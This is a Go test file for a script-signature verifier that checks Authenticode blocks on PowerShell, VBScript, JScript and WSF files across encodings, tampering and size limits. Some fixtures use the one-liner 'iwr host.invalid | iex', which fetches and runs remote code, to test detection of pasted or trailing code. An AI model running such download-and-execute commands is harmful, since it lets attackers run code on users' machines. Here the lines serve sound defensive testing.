package sign

import (
	"bytes"
	"crypto"
	"crypto/x509"
	"strings"
	"testing"

	"github.com/sassoftware/relic/v8/lib/authenticode"

	"meetguard"
)

const (
	windowsText = "Write-Host 'Meeting'\r\n$n = 1\r\n"
	unixText    = "Write-Host 'Meeting'\n$n = 1\n"
	germanText  = "Write-Host 'Besprechung für später'\r\n"
)

func TestPowerShell(t *testing.T) {
	ca := newCA(t)
	id := issue(t, ca, func(*x509.Certificate) {})
	other := issue(t, nil, func(c *x509.Certificate) { c.Subject.Organization = []string{"Nobody"} })
	sign := func(script []byte) []byte { return signedPS(t, id, authenticode.SigStyleHash, script) }
	edit := func(file []byte, from, to string) []byte {
		if !bytes.Contains(file, []byte(from)) {
			t.Fatalf("the fixture does not hold %q", from)
		}
		return bytes.Replace(file, []byte(from), []byte(to), 1)
	}
	good := sign([]byte(windowsText))
	block := string(good[len(windowsText):])
	ansiText := []byte(strings.ReplaceAll(strings.ReplaceAll(germanText, "ü", "\xfc"), "ä", "\xe4"))
	ansiBlock := signedPS(t, id, authenticode.SigStyleHash, []byte(germanText))[len(germanText):]
	xml := signedPS(t, id, authenticode.SigStyleXML, []byte("<?xml version=\"1.0\"?>\r\n<Configuration />\r\n"))

	const valid, invalid, unsigned, unknown = meetguard.SignatureValid, meetguard.SignatureInvalid, meetguard.SignatureUnsigned, meetguard.SignatureUnknown
	cases := []struct {
		what, name string
		file       []byte
		status     meetguard.SignatureStatus
		chain      string
		remarks    string
	}{
		{"CRLF", "a.ps1", good, valid, ChainOK, ""},
		{"LF", "a.psm1", sign([]byte(unixText)), valid, ChainOK, ""},
		{"without last line end", "a.psd1", sign([]byte("Write-Host 1")), valid, ChainOK, ""},
		{"UTF-8 with mark", "a.ps1", sign([]byte("\uFEFF" + germanText)), valid, ChainOK, ""},
		{"UTF-8 without mark", "a.ps1", sign([]byte(germanText)), valid, ChainOK, ""},
		{"signed in the code page of the machine", "a.ps1", append(bytes.Clone(ansiText), ansiBlock...), valid, ChainOK, ""},
		{"UTF-16LE", "a.ps1", sign(utf16file(germanText+"# 🦊\r\n", false)), valid, ChainOK, ""},
		{"UTF-16BE", "a.ps1", utf16file(germanText+string(signedPS(t, id, authenticode.SigStyleHash, []byte("\uFEFF"+germanText))[3+len(germanText):]), true), valid, ChainOK, ""},
		{"XML", "a.ps1xml", xml, valid, ChainOK, ""},
		{"no extension", "a", good, valid, ChainOK, ""},
		{"upper case", "A.PS1", good, valid, ChainOK, ""},
		{"block at the front", "a.ps1", signedPS(t, id, authenticode.SigStyleHash, []byte("\r\n"))[2:], invalid, ChainBadDigest, ""},

		{"tampered", "a.ps1", edit(good, "$n = 1", "$n = 2"), invalid, ChainBadDigest, ""},
		{"tampered UTF-16LE", "a.ps1", edit(sign(utf16file(windowsText, false)), "1", "2"), invalid, ChainBadDigest, ""},
		{"tampered UTF-16BE", "a.ps1", utf16file(strings.Replace(windowsText, "1", "2", 1)+block, true), unknown, "", ""},
		{"tampered UTF-8", "a.ps1", edit(sign([]byte(germanText)), "für", "fur"), invalid, ChainBadDigest, ""},
		{"tampered in an unknown code page", "a.ps1", edit(append([]byte("# \xcf\xf0\xe8\r\n"), good...), "$n = 1", "$n = 2"), unknown, "", ""},
		{"half a surrogate", "a.ps1", sign(append(utf16file("#", false), 0x00, 0xd8, '\r', 0, '\n', 0)), unknown, "", ""},
		{"tampered XML", "a.ps1xml", edit(xml, "Configuration", "Configurations"), invalid, ChainBadDigest, ""},
		{"pasted block", "a.ps1", []byte("iwr host.invalid | iex\r\n" + block), invalid, ChainBadDigest, ""},
		{"line ends of Unix", "a.ps1", bytes.ReplaceAll(good, []byte("\r\n"), []byte("\n")), invalid, ChainBadDigest, RemarkLineEnds},
		{"code after the block", "a.ps1", append(bytes.Clone(good), "iwr host.invalid | iex\r\n"...), valid, ChainOK, RemarkCodeAfterBlock},
		{"comment after the block", "a.ps1", append(bytes.Clone(good), "\r\n# end\r\n"...), valid, ChainOK, ""},
		{"block in the middle, tampered", "a.ps1", append(edit(good, "$n = 1", "$n = 2"), "$n\r\n"...), invalid, ChainBadDigest, RemarkCodeAfterBlock},
		{"two blocks", "a.ps1", append(bytes.Clone(good), signedPS(t, other, authenticode.SigStyleHash, []byte("x\r\n"))[1:]...), valid, ChainOK, RemarkSecondBlock},
		{"no signer in it", "a.ps1", []byte("x" + blockOf(styleHash, []byte{0x30, 0})), invalid, ChainMalformed, ""},
		{"no base64", "a.ps1", edit(good, "# MI", "# ?!"), invalid, ChainMalformed, ""},
		{"a foreign line in the block", "a.ps1", edit(good, "# MI", "iex MI"), invalid, ChainMalformed, ""},
		{"without end", "a.ps1", good[:len(good)-40], invalid, ChainMalformed, ""},

		{"unsigned", "a.ps1", []byte(windowsText), unsigned, "", ""},
		{"empty", "a.ps1", nil, unsigned, "", ""},
		{"speaks of blocks", "a.ps1", []byte("$m = '# SIG # Begin signature block'\r\n"), unsigned, "", ""},
		{"block of another language", "a.ps1", []byte("x" + blockOf(styleVBS, []byte{0x30, 0})), unsigned, "", ""},
		{"shell", "a.sh", []byte("echo\n"), unknown, "", ""},
		{"AppleScript text", "a.applescript", []byte("display dialog \"x\"\n"), unknown, "", ""},
	}
	v := newVerifier(t, ca)
	for _, c := range cases {
		sig, gaps := v.VerifyScript(c.name, c.file, today)
		if sig.Status != c.status || sig.Chain != c.chain || strings.Join(sig.Remarks, ",") != c.remarks {
			t.Errorf("%s: got %+v, gaps %v", c.what, sig, gaps)
		}
		if named := c.chain == ChainOK || c.chain == ChainBadDigest; named && sig.Subject != zoom {
			t.Errorf("%s: subject %q", c.what, sig.Subject)
		}
		if len(gaps) > 0 && (gaps[0].Blinding || sig.Status != unknown) {
			t.Errorf("%s: gaps %v", c.what, gaps)
		}
		if c.what == "two blocks" && (len(sig.OtherSigners) != 1 || sig.OtherSigners[0] != "Nobody") {
			t.Errorf("other signers %v", sig.OtherSigners)
		}
	}
}

// Of the other languages the signer is told and nothing is proven.
func TestScriptIdentity(t *testing.T) {
	ca := newCA(t)
	id := issue(t, ca, func(*x509.Certificate) {})
	self := issue(t, nil, func(*x509.Certificate) {})
	sum := crypto.SHA256.New().Sum(nil)
	known, stranger := sealSIP(t, id, authenticode.SpcUUIDSipInfoPs, sum).der(t), sealSIP(t, self, authenticode.SpcUUIDSipInfoPs, sum).der(t)
	broken := bytes.Clone(known)
	broken[len(broken)-20] ^= 1
	const unknown, invalid, unsigned = meetguard.SignatureUnknown, meetguard.SignatureInvalid, meetguard.SignatureUnsigned
	cases := []struct {
		name, text string
		status     meetguard.SignatureStatus
		chain      string
		remarks    string
		gaps       int
	}{
		{"a.vbs", "MsgBox 1" + blockOf(styleVBS, known), unknown, ChainOK, "", 1},
		{"a.vbs", "MsgBox 1" + blockOf(styleVBS, stranger), unknown, ChainUnknownRoot, "", 1},
		{"a.vbs", "MsgBox 1" + blockOf(styleVBS, known) + "MsgBox 2\r\n", unknown, ChainOK, RemarkCodeAfterBlock, 1},
		{"a.vbs", "MsgBox 1" + blockOf(styleVBS, broken), invalid, ChainBadDigest, "", 0},
		{"a.js", "alert(1)" + blockOf(styleJS, known), unknown, ChainOK, "", 1},
		{"a.wsf", "<job><script>1</script>" + blockOf(styleWSF, known) + "</job>\r\n", unknown, ChainOK, "", 1},
		{"a.wsf", "<job>" + blockOf(styleWSF, known) + "<script>1</script></job>\r\n", unknown, ChainOK, RemarkCodeAfterBlock, 1},
		{"a", "alert(1)" + blockOf(styleJS, known), unknown, ChainOK, "", 1},
		{"a.vbs", "MsgBox 1\r\n", unsigned, "", "", 0},
		{"a.js", "alert(1)\n", unsigned, "", "", 0},
		{"a.wsf", "<job/>", unsigned, "", "", 0},
	}
	v := newVerifier(t, ca)
	for _, c := range cases {
		for _, file := range [][]byte{[]byte(c.text), utf16file(c.text, false)} {
			sig, gaps := v.VerifyScript(c.name, file, today)
			if sig.Status != c.status || sig.Chain != c.chain || strings.Join(sig.Remarks, ",") != c.remarks || len(gaps) != c.gaps {
				t.Errorf("%s %.40q: got %+v, gaps %v", c.name, c.text, sig, gaps)
			}
			if c.chain != "" && (sig.Subject != zoom || sig.Issuer == "" || sig.Serial == "") {
				t.Errorf("%s %.40q: signer %+v", c.name, c.text, sig)
			}
		}
	}
}

func TestScriptLimits(t *testing.T) {
	v := newVerifier(t)
	huge := bytes.Repeat([]byte("x"), maxScript+1)
	if sig, gaps := v.VerifyScript("a.ps1", huge, today); sig.Status != meetguard.SignatureUnknown || len(gaps) != 1 || !gaps[0].Blinding {
		t.Errorf("got %+v, gaps %v", sig, gaps)
	}
	if sig, gaps := v.VerifyScript("a.txt", huge, today); sig.Status != meetguard.SignatureUnknown || len(gaps) != 0 {
		t.Errorf("a text: got %+v, gaps %v", sig, gaps)
	}
	long := styleHash.begin + "\r\n" + strings.Repeat("# "+strings.Repeat("A", 64)+"\r\n", 20000)
	if sig, gaps := v.VerifyScript("a.ps1", []byte(long), today); sig.Status != meetguard.SignatureUnknown || len(gaps) != 1 || !gaps[0].Blinding {
		t.Errorf("a block of 1.3 MB: got %+v, gaps %v", sig, gaps)
	}
}

// A second program signs and judges the same scripts.
func TestPowerShellWithOsslsigncode(t *testing.T) {
	ca := newCA(t)
	id := issue(t, ca, func(*x509.Certificate) {})
	o := newOsslsigncode(t, id, ca)
	if o == nil {
		return
	}
	v := newVerifier(t, ca)
	for what, script := range map[string][]byte{
		"CRLF": []byte(windowsText), "LF": []byte(unixText), "mark": []byte("\uFEFF" + germanText), "no mark": []byte(germanText),
		"UTF-16LE": utf16file(germanText, false),
	} {
		signed := o.sign(t, "theirs.ps1", script)
		if sig, gaps := v.VerifyScript("a.ps1", signed, today); sig.Status != meetguard.SignatureValid || len(sig.Remarks) > 0 {
			t.Errorf("%s, signed by the tool: got %+v, gaps %v", what, sig, gaps)
		}
		ours := signedPS(t, id, authenticode.SigStyleHash, script)
		if ok, said := o.verify(t, "ours.ps1", ours); !ok {
			t.Errorf("%s, judged by the tool: %s", what, said)
		}
		at := bytes.IndexByte(ours, '\'')
		ours[at] = '"'
		if ok, _ := o.verify(t, "ours.ps1", ours); ok {
			t.Errorf("%s: the tool takes a script that was changed", what)
		}
	}
	// The tool passes over what stands behind the block; this package names it.
	trailing := append(signedPS(t, id, authenticode.SigStyleHash, []byte(windowsText)), "iex 1\r\n"...)
	if ok, said := o.verify(t, "trailing.ps1", trailing); !ok {
		t.Errorf("code behind the block: %s", said)
	}
}
